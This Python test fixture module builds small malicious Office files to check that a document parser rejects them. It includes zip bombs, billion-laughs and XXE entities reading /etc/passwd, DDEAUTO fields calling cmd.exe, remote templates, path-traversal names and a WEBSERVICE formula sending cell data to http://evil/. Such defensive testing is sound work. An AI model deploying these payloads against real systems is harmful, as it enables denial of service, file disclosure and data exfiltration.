"""Office files as a hostile hand makes them, by what is wrong with them; all of them small."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

from documents import parts_of

from tests.fill.templates import a_docx, an_xlsx, paragraph, sheet_data, write_zip

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
_DOCUMENT = f"<w:document {_W}><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>"


def a_plain_docx(path: Path) -> Path:
    """Nothing is wrong with it."""
    return a_docx(path, paragraph("正文"))


def a_plain_xlsx(path: Path) -> Path:
    """Nothing is wrong with it."""
    return an_xlsx(
        path, {"户": sheet_data({1: {"A": "职工编号", "B": "职工姓名"}, 2: {"A": "1", "B": "罗大山"}})}
    )


def with_part(path: Path, name: str, content: str | bytes) -> Path:
    """The file with a part added or exchanged."""
    return write_zip(path, {**parts_of(path.read_bytes()), name: content})


def relation(kind: str, target: str, mode: str = "External") -> str:
    """A part of relationships with one of that kind."""
    told = f' TargetMode="{mode}"' if mode else ""
    one = f'<Relationship Id="rId9" Type="{_OFFICE}/{kind}" Target="{target}"{told}/>'
    return f'<Relationships xmlns="{_PACKAGE}">{one}</Relationships>'


def _field(*pieces: str) -> str:
    """A Word document with a field whose words lie in those pieces."""
    marks = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    words = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    inside = f"{marks.format('begin')}{words}{marks.format('end')}"
    return f"<w:document {_W}><w:body><w:p>{inside}</w:p></w:body></w:document>"


@cache
def _zeros(megabytes: int) -> bytes:
    """So many megabytes, packed."""
    squeezer, piece = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(2**20)
    return b"".join(squeezer.compress(piece) for _ in range(megabytes)) + squeezer.flush()


def _swollen(path: Path) -> Path:
    """Three gigabytes, as it says itself."""
    return _patched(path, _zeros(64), 3 * 2**30)


def _lying(path: Path) -> Path:
    """A part of 300 MB that says it has 100 bytes."""
    return _patched(path, _zeros(300), 100)


def _patched(path: Path, packed: bytes, size: int) -> Path:
    """An archive with one more part of those packed bytes, which says it has that size."""
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(zipfile.ZipInfo("docProps/thumb.png"), packed)
    data = bytearray(path.read_bytes())
    name = b"docProps/thumb.png"
    for mark, before, at in ((b"PK\x03\x04", data.index(name), 8), (b"PK\x01\x02", data.rindex(name), 10)):
        start = data.rindex(mark, 0, before)
        struct.pack_into("<H", data, start + at, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", data, start + at + 14, size)
    path.write_bytes(data)
    return path


def _many_parts(path: Path) -> Path:
    return write_zip(
        path, {**parts_of(path.read_bytes()), **{f"customXml/{n}.xml": "<a/>" for n in range(10_001)}}
    )


def _twice(path: Path) -> Path:
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("WORD/document.xml", "<a/>")
    return path


def _named(name: str) -> Callable[[Path], Path]:
    def changed(path: Path) -> Path:
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(name, "<a/>")
        return path

    return changed


def _added(name: str, content: str | bytes) -> Callable[[Path], Path]:
    return lambda path: with_part(path, name, content)


_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_FROM_THE_WEB = '<w:pict><v:imagedata xmlns:v="v" src="http://evil/a"/></w:pict>'
_DOCTYPE = f"<!DOCTYPE a [{_LAUGHS}]>"
BOMBS = {
    "3 GB told": _swollen,
    "300 MB hidden": _lying,
    "10001 parts": _many_parts,
    "billion laughs": _added("docProps/app.xml", f'<?xml version="1.0"?>{_DOCTYPE}<a>&l9;</a>'),
    "laughs in UTF-16": _added(
        "docProps/app.xml", f'<?xml version="1.0" encoding="UTF-16"?>{_DOCTYPE}<a>&l9;</a>'.encode("utf-16")
    ),
    "laughs behind a long remark": _added("docProps/app.xml", f"<!--{'x' * 99_999}-->{_DOCTYPE}<a>&l9;</a>"),
    "file by entity": _added(
        "docProps/app.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    ),
    "outside document type": _added("docProps/app.xml", '<!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>'),
    "strange encoding": _added("docProps/app.xml", b'<?xml version="1.0" encoding="EBCDIC-CP-US"?><a/>'),
}
ACTING = {
    "macros": _added("word/vbaProject.bin", b"x"),
    "macros in types": _added("[Content_Types].xml", f'<Types ContentType="{_MACRO_TYPE}"/>'),
    "ActiveX": _added("word/activeX/activeX1.bin", b"x"),
    "OLE": _added("word/embeddings/oleObject1.bin", b"x"),
    "remote template": _added(
        "word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil/a.dotm")
    ),
    "picture from the web": _added("word/_rels/document.xml.rels", relation("image", "http://evil/a.png")),
    "picture of this machine": _added("word/_rels/document.xml.rels", relation("image", "file:///etc/a.png")),
    "mode in small letters": _added(
        "word/_rels/document.xml.rels", relation("image", "http://e/", "external")
    ),
    "target without mode": _added("word/_rels/document.xml.rels", relation("image", "file:///etc/a.png", "")),
    "share": _added("word/_rels/document.xml.rels", relation("image", "\\\\evil\\a.png", "")),
    "other document": _added("word/_rels/document.xml.rels", relation("aFChunk", "a.html", "")),
    "web page": _added("word/afchunk.html", "<script/>"),
    "DDEAUTO": _added("word/document.xml", _field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")),
    "DDE in pieces": _added("word/document.xml", _field(" D", "DE", "AUTO cmd ")),
    "INCLUDEPICTURE": _added("word/document.xml", _field(' INCLUDEPICTURE "http://evil/a.png" \\d ')),
    "INCLUDETEXT": _added("word/header1.xml", _field(' INCLUDETEXT "/etc/passwd" ')),
    "simple field": _added(
        "word/document.xml", f'<w:document {_W}><w:p><w:fldSimple w:instr="LINK Excel"/></w:p></w:document>'
    ),
    "drawn picture": _added("word/document.xml", f"<w:document {_W}>{_FROM_THE_WEB}</w:document>"),
    "name that climbs": _named("../../evil.xml"),
    "name from the root": _named("/etc/evil.xml"),
    "name of a drive": _named("C:\\evil.xml"),
    "two of a name": _twice,
    "formula that fetches": _added(
        "xl/worksheets/sheet1.xml",
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil/"&amp;B1)</f></c></row></sheetData></worksheet>',
    ),
    "other workbook": _added("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
}
LINK = _added("word/_rels/document.xml.rels", relation("hyperlink", "http://www.example.org/"))
